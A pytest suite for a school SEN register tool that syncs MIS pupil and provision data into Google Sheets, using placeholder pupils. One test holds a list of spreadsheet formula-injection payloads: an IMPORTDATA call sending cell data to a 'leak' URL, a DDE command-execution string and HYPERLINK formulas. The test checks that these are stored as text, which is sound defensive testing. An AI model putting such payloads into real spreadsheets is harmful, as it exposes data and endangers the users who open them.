"""What happens in the MIS: each row of docs/what-happens-when.md."""

from __future__ import annotations

from datetime import UTC, date, datetime
from typing import TYPE_CHECKING

import pytest
from support.story import LOG, MAP, REGISTER, provision, pupil, upn

from sync.domain.errors import RefusedError
from sync.domain.records import Need, Problem, StatusSpell

if TYPE_CHECKING:
    from support.story import Story


def changes(story: Story, what: str) -> list[tuple[str, str, str]]:
    return [(r["Pupil"], r["Was"], r["Now"]) for r in story.log() if r["What"] == what]


def test_the_first_sync_makes_a_register_of_everyone_with_sen(story: Story) -> None:
    register = story.register()
    assert [(r["Name"], r["Status"], r["Primary need"], r["On roll"]) for r in register.values()] == [
        ("Surname005, Forename005", "K", "SLCN", "Yes"),
        ("Surname001, Forename001", "E", "SLCN", "Yes"),
        ("Surname002, Forename002", "E", "SLCN", "Yes"),
        ("Surname003, Forename003", "K", "SLCN", "Yes"),
        ("Surname004, Forename004", "K", "SLCN", "Yes"),
    ]
    row = register[story.ref(3)]
    assert {k: row[k] for k in ("Year", "Class", "Since", "Area of need", "PP", "FSM", "EAL", "Attendance")} == {
        "Year": "10",
        "Class": "10A",
        "Since": "02/09/2024",
        "Area of need": "Communication and interaction",
        "PP": "Yes",
        "FSM": "Yes",
        "EAL": "No",
        "Attendance": "95.5%",
    }


def test_a_pupil_who_joins_with_sen_gets_a_row(story: Story) -> None:
    story.pupils.append(pupil(20, "K"))
    story.sync()
    assert story.register()[story.ref(20)]["Name"] == "Surname020, Forename020"
    assert changes(story, "Joined") == [("Surname020, Forename020", "", "K")]


def test_a_new_status_shows_and_is_logged_with_its_date(story: Story) -> None:
    ref = story.ref(6)
    story.change(6, status_history=(StatusSpell("N", date(2024, 9, 2)), StatusSpell("K", date(2026, 11, 16))))
    story.sync()
    assert story.register()[ref]["Status"] == "K"
    line = next(r for r in story.senco.rows(LOG) if r["What"] == "Status")
    assert (line["Ref"], line["Was"], line["Now"], line["Took effect"]) == (ref, "N", "K", "16/11/2026")


def test_a_future_status_waits_for_its_day(story: Story) -> None:
    story.change(3, status_history=(StatusSpell("K", date(2024, 9, 2)), StatusSpell("E", date(2026, 12, 1))))
    story.sync()
    ref = story.ref(3)
    roll = next(r for r in story.owner.rows("MIS roll") if r["Ref"] == ref)
    assert (roll["Status"], roll["Next status"], roll["From"]) == ("K", "E", "01/12/2026")
    story.now = datetime(2026, 12, 1, 8, 0, tzinfo=UTC)
    story.sync()
    assert story.register()[ref]["Status"] == "E"


def test_a_leaver_is_marked_and_keeps_every_word(story: Story) -> None:
    ref = story.ref(3)
    story.senco.type(REGISTER, ref, "Notes", "Likes chess")
    story.drop(3)
    story.sync()
    row = story.register()[ref]
    assert (row["On roll"], row["Notes"], row["Name"]) == ("Left 23/11/2026", "Likes chess", "Surname003, Forename003")


def test_a_returner_finds_the_same_row(story: Story) -> None:
    ref = story.ref(3)
    story.senco.type(REGISTER, ref, "Notes", "Likes chess")
    story.drop(3)
    story.sync()
    story.pupils.append(pupil(3, "K"))
    story.sync()
    row = story.register()[ref]
    assert (row["On roll"], row["Notes"]) == ("Yes", "Likes chess")
    assert len(story.register()) == 5


def test_a_permanent_upn_keeps_the_row(story: Story) -> None:
    temporary = upn(30, temporary=True)
    story.pupils.append(pupil(30, "K", upn=temporary))
    story.sync()
    ref = story.ref(30)
    story.change(30, upn=upn(30), former_upns=(temporary,))
    story.sync()
    roll = next(r for r in story.owner.rows("MIS roll") if r["Ref"] == ref)
    assert (roll["UPN"], roll["Former UPNs"]) == (upn(30), temporary)
    assert sum(1 for r in story.register().values() if r["Name"] == "Surname030, Forename030") == 1


def test_a_pupil_with_two_upns_is_one_row(story: Story) -> None:
    ref = story.ref(3)
    story.pupils.append(pupil(3, "K", upn=upn(99), former_upns=(upn(3),)))
    story.sync()
    assert sum(1 for r in story.register().values() if r["Name"] == "Surname003, Forename003") == 1
    assert [a for a in story.attention() if "two records" in a] == [
        (
            f"Reference {ref} has two records in the MIS, UPN {upn(3)} and UPN {upn(99)}; the first was used. "
            "Join them in the MIS."
        )
    ]


@pytest.mark.parametrize("with_mis_id", [True, False])
def test_swapped_upns_follow_the_child(story: Story, with_mis_id: bool) -> None:
    third, fourth = story.ref(3), story.ref(4)
    story.senco.type(REGISTER, third, "Notes", "Third's own words")
    story.change(3, upn=upn(4), mis_id="5003" if with_mis_id else None)
    story.change(4, upn=upn(3), mis_id="5004" if with_mis_id else None)
    story.sync()
    register = story.register()
    assert (register[third]["Name"], register[third]["Notes"]) == ("Surname003, Forename003", "Third's own words")
    assert register[fourth]["Name"] == "Surname004, Forename004"


def test_a_upn_that_names_another_child_is_left_alone(story: Story) -> None:
    ref = story.ref(3)
    story.drop(3)
    story.pupils.append(pupil(77, "K", upn=upn(3), mis_id=None, dob=date(2010, 1, 1)))
    story.sync()
    assert story.register()[ref]["Name"] == "Surname003, Forename003"
    assert story.register()[ref]["On roll"] == "Yes"
    assert [a for a in story.attention() if upn(3) in a] != []


def test_a_missing_sen_block_changes_nothing(story: Story) -> None:
    ref = story.ref(3)
    story.change(3, status_history=None, needs=None)
    story.sync()
    row = story.register()[ref]
    assert (row["Status"], row["Primary need"]) == ("K", "SLCN")


def test_what_the_mis_no_longer_lists_is_marked(story: Story) -> None:
    third = next(p for p in story.pupils if p.upn == upn(3))
    story.provisions = [provision(1, third)]
    story.sync()
    [key] = story.map()
    story.provisions = []
    story.change(3, needs=(Need("ASD", 1),))
    story.sync()
    listed = {r["Provision"]: r["In the MIS"] for r in story.owner.rows("MIS provision")}
    assert listed == {"Reading fluency group": "No"}
    row = story.map()[key]
    assert (row["Provision"], row["In the MIS"], row["Running"], row["Full-period cost"]) == (
        "Reading fluency group",
        "No",
        "No",
        "£0",
    )
    assert changes(story, "Provision")[-1][1:] == ("Reading fluency group", "")
    needs = {r["Need"]: r["In the MIS"] for r in story.owner.rows("MIS needs") if r["Ref"] == story.ref(3)}
    assert needs == {"SLCN": "No", "ASD": "Yes"}


def test_a_provision_put_right_in_the_mis_keeps_its_row(story: Story) -> None:
    third = next(p for p in story.pupils if p.upn == upn(3))
    story.provisions = [provision(1, third, mis_id=None)]
    story.sync()
    [key] = story.map()
    story.senco.type(MAP, key, "Impact", "As expected")
    story.provisions = [provision(1, third, mis_id=None, start=date(2026, 9, 14))]
    story.sync()
    [(same_key, row)] = story.map().items()
    assert (same_key, row["Start"], row["Impact"]) == (key, "14/09/2026", "As expected")
    assert changes(story, "Start")[-1][1:] == ("07/09/2026", "14/09/2026")
    assert story.register()[story.ref(3)]["Provisions now"] == "1"
    assert story.requests_of(story.sync) == (1, 0)


def test_most_provisions_gone_at_once_are_refused(story: Story) -> None:
    third = next(p for p in story.pupils if p.upn == upn(3))
    story.provisions = [provision(n, third, name=f"Group {n}") for n in range(12)]
    story.sync()
    story.provisions = story.provisions[:2]
    with pytest.raises(RefusedError, match="10 of 12 provisions are missing"):
        story.sync()
    assert {r["Running"] for r in story.map().values()} == {"Yes"}
    story.sync(accepted=["provisions"])
    assert sorted(r["Running"] for r in story.map().values()) == ["No"] * 10 + ["Yes"] * 2


def test_a_text_too_long_for_a_cell_is_cut_and_said(story: Story) -> None:
    story.change(3, registration_group="x" * 60_000)
    story.sync()
    assert len(story.register()[story.ref(3)]["Class"]) == 50_000
    assert [a for a in story.attention() if "60,000 characters under 'group'" in a] != []
    assert story.requests_of(story.sync) == (1, 0)


def test_an_unknown_code_is_kept_and_listed(story: Story) -> None:
    story.change(3, needs=(Need("ZZZ", 1),))
    story.problems = (Problem("export.xml", 3, "need", "'ZZZ' is a code that we do not know; kept as it is"),)
    story.sync()
    assert story.register()[story.ref(3)]["Primary need"] == "ZZZ"
    assert story.attention() == ["'ZZZ' is a code that we do not know; kept as it is"]


INJECTIONS = [
    '=IMPORTDATA("http://127.0.0.1/leak?"&A1)',
    '=HYPERLINK("http://127.0.0.1","x")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
    "'=1+1",
    "=1+1",
    "1/2",
    "0042",
    "TRUE",
    "NA",
]


def test_text_is_never_a_formula(story: Story) -> None:
    story.pupils = [
        pupil(n, "K", registration_group=text, preferred_surname=text) for n, text in enumerate(INJECTIONS, start=1)
    ]
    story.provisions = [
        provision(n, of, name=text, delivered_by=text, target=text)
        for n, (of, text) in enumerate(zip(story.pupils, INJECTIONS, strict=True), start=1)
    ]
    story.sync(accepted=["joiners"])
    answer = story.owner.get(
        includeGridData="true", fields="sheets(properties.title,data.rowData.values.userEnteredValue)"
    )
    formulas = [
        v["userEnteredValue"]["formulaValue"]
        for s in answer["sheets"]
        for d in s["data"]
        for r in d.get("rowData", [])
        for v in r.get("values", [])
        if "formulaValue" in v.get("userEnteredValue", {})
    ]
    bare = {text.strip() for text in INJECTIONS}
    assert [f for f in formulas if f in bare or any(text in f for text in bare if text.startswith("="))] == []
    told = {story.ref(n): text for n, text in enumerate(INJECTIONS, start=1)}
    assert {ref: row["Class"] for ref, row in story.register().items()} == told
    assert {row["Pupil"][-5:]: row["Provision"] for row in story.map().values()} == told
    assert len(story.map()) == len(told)
    assert sorted(row["Class"] for row in story.teachers.rows("Strategies")) == sorted(INJECTIONS)
    assert story.requests_of(story.sync) == (1, 0)


def test_a_shrunken_roll_is_refused(story: Story) -> None:
    story.pupils = [*story.pupils, *(pupil(n, "N") for n in range(40, 60))]
    story.sync(accepted=["joiners"])
    before = story.owner.grid("MIS roll")
    story.pupils = story.pupils[:12]
    with pytest.raises(RefusedError, match="16 of 28 pupils are missing"):
        story.sync()
    assert story.owner.grid("MIS roll") == before
    story.sync(accepted=["leavers"])
    assert sum(1 for r in story.owner.rows("MIS roll") if r["On roll"] == "Yes") == 12


def test_most_statuses_at_once_are_refused(story: Story) -> None:
    story.pupils = [*story.pupils, *(pupil(n, "K") for n in range(40, 45))]
    story.sync()
    before = story.senco.grid(REGISTER)
    for p in list(story.pupils):
        story.change(int((p.legal_surname or "")[-3:]), status_history=(StatusSpell("N", date(2026, 11, 1)),))
    with pytest.raises(RefusedError, match="10 of 10 pupils with SEN would change status"):
        story.sync()
    assert story.senco.grid(REGISTER) == before
    story.sync(accepted=["statuses"])
    assert {r["Status"] for r in story.register().values()} == {"N"}


def test_many_new_pupils_are_refused(story: Story) -> None:
    story.pupils += [pupil(n, "N") for n in range(40, 60)]
    with pytest.raises(RefusedError, match="20 pupils are new beside 8"):
        story.sync()
    assert len(story.owner.rows("MIS roll")) == 8
    story.sync(accepted=["joiners"])
    assert len(story.owner.rows("MIS roll")) == 28


def test_files_without_sen_are_refused(story: Story) -> None:
    for number in range(1, 9):
        story.change(number, status_history=None, needs=None)
    with pytest.raises(RefusedError, match="None of the MIS files says anything of SEN status"):
        story.sync()
    story.sync(accepted=["no-sen"])
    assert {r["Status"] for r in story.register().values()} == {"E", "K"}


def test_a_file_that_cannot_be_right_is_refused(story: Story) -> None:
    before = story.owner.grid("MIS roll")
    story.pupils = []
    with pytest.raises(RefusedError, match="The MIS files hold 0 pupils"):
        story.sync()
    assert story.owner.grid("MIS roll") == before


def test_a_mis_provision_shows_with_its_cost(story: Story) -> None:
    third = next(p for p in story.pupils if p.upn == upn(3))
    story.provisions = [provision(1, third), provision(2, third, name="Counselling", cost=480.0, group_size=1.0)]
    story.sync()
    rows = {r["Provision"]: r for r in story.map().values()}
    reading = rows["Reading fluency group"]
    # 7 Sep to 18 Dec with the half terms of Settings: 47 + 47 days, by seven; 30 minutes twice a week at 17 an hour,
    # shared by three.
    assert reading["School weeks"] == f"{(47 + 47) / 7:,.2f}".rstrip("0").rstrip(".")
    assert reading["Full-period cost"] == f"£{(47 + 47) / 7 * 17 / 3:,.0f}"
    assert rows["Counselling"]["Full-period cost"] == "£480"
    register = story.register()[story.ref(3)]
    assert register["Provisions now"] == "2"
    assert register["Cost this year"] == f"£{480 + (47 + 47) / 7 * 17 / 3:,.0f}"
    assert register["Gaps"] == "Provision without review"
    assert story.register()[story.ref(4)]["Gaps"] == "SEN support without provision"
    assert MAP == "Provision map"
